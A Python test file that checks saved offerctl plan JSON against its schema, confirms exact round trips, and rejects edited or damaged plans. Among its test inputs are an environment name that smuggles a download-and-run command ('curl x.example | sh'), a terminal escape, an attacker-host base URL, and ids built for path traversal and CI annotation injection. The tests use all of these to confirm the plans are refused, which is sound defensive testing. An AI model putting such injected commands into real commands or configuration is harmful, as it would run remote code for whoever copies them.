"""A plan as JSON: its schema, its bytes, and the way back."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from offerctl import canon
from offerctl.errors import UsageError
from offerctl.offering import Desired
from offerctl.plan import Action, Guards
from offerctl.plan import document as plan_document
from offerctl.state import Belief, Intent
from support.plans import CONTESTED, FRENCH, NOW, live, maybe, offering, planned, wanted, worlds

_SCHEMA = json.loads((Path(__file__).parents[2] / "schema" / "plan.schema.json").read_bytes())
_VALIDATOR = Draft202012Validator(_SCHEMA)
World = tuple[dict[str, Desired], dict[str, Belief]]


def example() -> dict[str, Any]:
    """A document with something in each of its parts."""
    plan = planned(
        {**wanted(offering(price=Decimal("249.50")), offering("new")), **wanted(offering("kept"), protect=True)},
        {
            "jhsc-en-01": maybe(offering(), offering(price=Decimal(1)), quiet_until=NOW),
            "kept": live(offering("kept")),
            "old": live(offering("old")),
            "theirs": CONTESTED,
        },
        allow_deletes=0,
    )
    document: dict[str, Any] = canon.parse(plan_document.encode(plan))
    return document


def test_the_schema_is_one() -> None:
    """It follows the draft that it names."""
    Draft202012Validator.check_schema(_SCHEMA)


@given(worlds(), st.sampled_from([True, False]), st.sampled_from([None, 0, 3, "all"]))
def test_every_plan_follows_the_schema_and_comes_back(world: World, reassert: Any, allow_deletes: Any) -> None:
    """Bytes to plan to bytes loses nothing, refusals and doubts included."""
    desired, beliefs = world
    for found in (beliefs, None):
        plan = planned(desired, found, reassert=reassert, allow_deletes=allow_deletes)
        data = plan_document.encode(plan)
        _VALIDATOR.validate(canon.parse(data))
        assert plan_document.load(data) == plan
        assert plan_document.encode(plan_document.load(data)) == data


def test_the_document() -> None:
    """Names and forms that scripts rely on."""
    document = example()
    assert document["format_version"] == "1.3"
    assert (document["environment"], document["base_url"], document["network_key"]) == (
        "prod",
        "https://marketplace.example",
        "pro-34616",
    )
    assert document["state"] == {"lineage": "2b0c1f7e-9d5a-4c43-8a26-5f0f6a3f1a11", "serial": 7}
    assert document["summary"] == {
        "add": 1, "change": 0, "settle": 1, "replace": 0, "reassert": 0, "delete": 1, "unchanged": 1,
    }  # fmt: skip
    assert document["last_applied"] == {
        "at": "2026-09-02T14:03:00Z",
        "commit": "3f2a9c1d5b7e8f90123456789abcdef012345678",
    }
    assert document["options"] == {
        "target": [], "exclude": [], "reassert": False, "allow_replace": False, "allow_deletes": 0,
        "allow_older": False, "allow_policy": [],
    }  # fmt: skip
    assert (document["protections"], document["contested"]) == ({"kept": True}, {"theirs": False})
    assert document["refusals"] == [
        {
            "code": "deletes",
            "offering_ids": ["old"],
            "message": "This would delete 1 listing; --allow-deletes 0 allows 0.",
            "hint": "If that is what you want: --allow-deletes 1",
        }
    ]


def test_a_change() -> None:
    """What was confirmed, attempted and wanted; numbers are the shortest plain form."""
    settle, add, delete = example()["changes"]
    assert settle == {
        "offering_id": "jhsc-en-01",
        "action": "settle",
        "actions": ["settle"],
        "intent": "put",
        "before": canon.parse(canon.compact(offering().attributes())),
        "after": {**canon.parse(canon.compact(offering().attributes())), "price": 249.5},
        "attempted": {**canon.parse(canon.compact(offering().attributes())), "price": 1},
        "attempted_at": "2026-09-02T14:09:00Z",
        "changed": ["price"],
        "reason": "changing it had no clear answer",
        "file": "offerings/jhsc-en-01.yaml",
        "quiet_until": "2026-09-02T14:30:00Z",
        "digest": settle["digest"],
    }
    assert (add["actions"], add["before"]) == (["add"], None)
    assert (delete["actions"], delete["intent"], delete["after"]) == (["delete"], "delete", None)


def test_a_change_and_a_replacement_in_calls() -> None:
    """`patch`, and `delete` with `add`."""
    beliefs = {"jhsc-en-01": live(offering()), "b": live(offering("b"))}
    desired = wanted(offering(price=Decimal(1)), offering("b", training_standard_key=FRENCH))
    changes = plan_document.as_json(planned(desired, beliefs, allow_replace=True))["changes"]
    assert isinstance(changes, list)
    assert [change["actions"] for change in changes] == [("patch",), ("delete", "add")]


def test_a_likely_rename_and_ids_that_differ_by_case() -> None:
    """Pairs of ids, for whoever reads plans by a program."""
    page = "https://provider.example/register"
    old, new = (offering(id_, external_registration_url=page) for id_ in ("JHSC-en-01", "jhsc-en-01"))
    document = plan_document.as_json(planned(wanted(new), {"JHSC-en-01": live(old)}))
    pair = {"from": "JHSC-en-01", "to": "jhsc-en-01"}
    assert (document["renames"], document["differing_by_case"]) == ([pair], [pair])
    _VALIDATOR.validate(canon.parse(canon.document(document)))


def test_reasserted_listings_count_alone() -> None:
    """8 to re-assert, and nothing else."""
    bodies = [offering(f"id-{i}") for i in range(8)]
    plan = planned(wanted(*bodies), {b.offering_id: live(b) for b in bodies}, guards=Guards(ephemeral=True))
    counts = plan_document.summary(plan)
    assert counts.pop("reassert") == 8
    assert set(counts.values()) == {0}


@pytest.mark.parametrize(
    "change",
    [
        {"format_version": "2.0"},
        {"state": {"lineage": "x"}},
        {"state": {"lineage": "x", "serial": -1}},
        {"digest": "abc"},
        {"dirty": None},
        {"summary": {"add": 1}},
        {"protections": {"a b": True}},
        {"contested": {"a": "yes"}},
        {"refusals": [{"code": "mood", "offering_ids": [], "message": "no", "hint": None}]},
        {"changes": [{"offering_id": "a"}]},
    ],
    ids=lambda change: next(iter(change)),
)
def test_the_schema_refuses_what_no_plan_holds(change: dict[str, Any]) -> None:
    """Each part is described."""
    assert _VALIDATOR.is_valid(example())
    assert not _VALIDATOR.is_valid(example() | change)


def test_every_key_is_asked_for() -> None:
    """Nothing that is written is optional, in the plan and in a change."""
    whole = example()
    for key in whole:
        assert not _VALIDATOR.is_valid({name: value for name, value in whole.items() if name != key})
    for key in whole["changes"][0]:
        change = {name: value for name, value in whole["changes"][0].items() if name != key}
        assert not _VALIDATOR.is_valid(whole | {"changes": [change]})


# Damage


def edit_after(document: dict[str, Any]) -> None:
    document["changes"][0]["after"]["price"] = 1


def edit_digest(document: dict[str, Any]) -> None:
    document["changes"][0]["digest"] = document["changes"][1]["digest"]


def drop_change(document: dict[str, Any]) -> None:
    del document["changes"][0]


def drop_protection(document: dict[str, Any]) -> None:
    document["protections"] = {}


def turn_intent(document: dict[str, Any]) -> None:
    document["changes"][0] |= {"intent": "delete", "after": None}


def swap_id(document: dict[str, Any]) -> None:
    document["changes"][0]["offering_id"] = "new"


def worsen_body(document: dict[str, Any]) -> None:
    document["changes"][0]["after"]["price"] = -1


def number_as_text(document: dict[str, Any]) -> None:
    document["state"]["serial"] = "7"


def flag_as_number(document: dict[str, Any]) -> None:
    document["options"]["reassert"] = 1


def list_as_text(document: dict[str, Any]) -> None:
    document["options"]["target"] = "jhsc-en-01"


def strange_refusal(document: dict[str, Any]) -> None:
    document["refusals"][0]["code"] = "mood"


def time_without_zone(document: dict[str, Any]) -> None:
    document["last_applied"]["at"] = "2026-09-02T14:03:00"


def no_options(document: dict[str, Any]) -> None:
    del document["options"]


def changes_of_nothing(document: dict[str, Any]) -> None:
    document["changes"] = [None]


def elsewhere(document: dict[str, Any]) -> None:
    document["base_url"] = "https://marketplace.example.attacker.example"


def another_provider(document: dict[str, Any]) -> None:
    document["network_key"] = "pro-9"


def another_collection(document: dict[str, Any]) -> None:
    document["api"] = {"collection": "/other"}


def more_deletes(document: dict[str, Any]) -> None:
    document["options"]["allow_deletes"] = "all"


def another_serial(document: dict[str, Any]) -> None:
    document["state"]["serial"] = 8


def no_refusal(document: dict[str, Any]) -> None:
    document["refusals"] = []


def another_reason(document: dict[str, Any]) -> None:
    document["changes"][0]["reason"] = "nothing to see here"


def no_checksum(document: dict[str, Any]) -> None:
    del document["checksum"]


@pytest.mark.parametrize(
    "damage",
    [
        elsewhere, another_provider, another_collection, more_deletes, another_serial, no_refusal, another_reason,
        no_checksum, edit_after, edit_digest, drop_change, drop_protection, turn_intent, swap_id, worsen_body,
        number_as_text,
        flag_as_number, list_as_text, strange_refusal, time_without_zone, no_options, changes_of_nothing,
    ],
)  # fmt: skip
def test_a_damaged_plan_is_refused(damage: Callable[[dict[str, Any]], None]) -> None:
    """Whatever was approved or saved, an edited file is not it."""
    document = example()
    damage(document)
    with pytest.raises(UsageError, match=r"^p\.json is damaged or was edited: .") as raised:
        plan_document.load(canon.document(document), "p.json")
    assert raised.value.hint == "Make a new one: offerctl plan --out FILE"


@pytest.mark.parametrize("id_", [".", "..", "a/b", "`x`", "a\n::error::x"])
@pytest.mark.parametrize("place", ["change", "target", "exclude", "refusal", "protections", "contested"])
def test_what_can_be_no_id_is_refused_wherever_it_stands(place: str, id_: str) -> None:
    """Before it is shown, compared or sent."""
    document = example()
    match place:
        case "change":
            document["changes"][0]["offering_id"] = id_
        case "target" | "exclude":
            document["options"][place] = [id_]
        case "refusal":
            document["refusals"] = [{"code": "empty", "offering_ids": [id_], "message": "no", "hint": None}]
        case _:
            document[place] = {id_: True}
    with pytest.raises(UsageError, match="cannot be an offeringId"):
        plan_document.load(canon.document(document))


@pytest.mark.parametrize("name", ["prod\x1b[2J", "prod; curl x.example | sh"])
def test_an_environment_that_no_configuration_can_have_is_no_plans(name: str) -> None:
    """`show` would print it, and write it into commands that people copy."""
    with pytest.raises(UsageError, match="cannot be the name of an environment"):
        plan_document.load(canon.document(example() | {"environment": name}))


@pytest.mark.parametrize(
    "edit", [{"intent": Intent.REPLACE}, {"action": Action.DELETE}, {"intent": Intent.DELETE}, {"after": None}]
)
def test_a_plan_that_contradicts_itself_is_refused(edit: dict[str, Any]) -> None:
    """Even with digests that fit: what is shown would not be what is done."""
    plan = planned(wanted(offering()), None)
    forged = replace(plan, changes=(replace(plan.changes[0], **edit),))
    with pytest.raises(UsageError, match="the change of jhsc-en-01 contradicts itself"):
        plan_document.load(plan_document.encode(forged))


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "p.json is no saved plan: it is not JSON"),
        (b"{", "p.json is no saved plan: it is not JSON"),
        (b"\xff", "p.json is no saved plan: it is not JSON"),
        (b"[]", "p.json is no saved plan of offerctl"),
        (b"{}", "p.json is no saved plan of offerctl"),
        (b'{"format_version": 1}', "p.json is no saved plan of offerctl"),
        (b'{"format_version": "2.0"}', "p.json has format 2.0; this offerctl reads 1.3"),
        (b'{"format_version": "1.0"}', "p.json is damaged or was edited: state is missing"),
    ],
)
def test_what_is_no_plan_is_said(data: bytes, said: str) -> None:
    """Another file, half a file, a file of the future."""
    with pytest.raises(UsageError) as raised:
        plan_document.load(data, "p.json")
    assert raised.value.message.startswith(said)


def test_a_later_minor_version_is_read() -> None:
    """Additions raise the minor number, and are left alone."""
    document = example() | {"format_version": "1.7", "mood": "good"}
    del document["checksum"]
    document["checksum"] = canon.digest(document)
    assert plan_document.load(canon.document(document)) == plan_document.load(canon.document(example()))


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
def test_a_plan_of_an_earlier_version_is_not_taken_for_a_sealed_one(version: str) -> None:
    """It had no checksum, so it can be looked at; without `api` it is never the plan that is made now."""
    document = example() | {"format_version": version, "api": {"collection": "/other"}}
    del document["checksum"]
    assert plan_document.load(canon.document(document)).api is None


def test_a_key_that_stands_twice_is_refused() -> None:
    """Of which readers take the one or the other."""
    data = canon.document(example())
    twice = data.replace(b'  "options": {', b'  "options": {\n    "allow_deletes": "all",', 1)
    with pytest.raises(
        UsageError, match=r"^p\.json is damaged or was edited: it has the key 'allow_deletes' twice"
    ):
        plan_document.load(twice, "p.json")


def test_only_the_order_of_changes_is_covered_too() -> None:
    """Changes in another order are another plan."""
    plan = planned(wanted(offering("a"), offering("b")), None)
    turned = replace(plan, changes=plan.changes[::-1])
    assert turned.digest != plan.digest
